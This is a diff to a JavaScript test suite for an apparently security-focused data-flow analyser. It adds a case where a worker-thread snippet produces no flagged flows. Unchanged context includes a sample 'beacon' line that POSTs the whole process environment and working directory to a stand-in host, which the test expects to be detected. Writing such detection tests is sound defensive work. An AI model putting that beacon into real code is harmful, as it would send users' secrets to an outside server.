@@ -391,6 +391,13 @@ describe('data flow', () => {
       'fetch(url);',
     ].join('\n');
     expect(flows(source).filter(([, to]) => to === 'fetch')).toEqual([]);
+    const worker = [
+      "const { Worker } = require('worker_threads');",
+      "const { createConnection } = require('net');",
+      'const w = new Worker(u, { env: { ...process.env, NODE_OPTIONS: process.env.NODE_OPTIONS }, workerData });',
+      "w.on('message', (r) => createConnection({ port: r.port, host: 'localhost' }));",
+    ].join('\n');
+    expect(flows(worker)).toEqual([]);
     const beacon =
       "fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify({ env: process.env, cwd: process.cwd() }) });";
     expect(flows(beacon)).toEqual([['env:*', 'fetch']]);
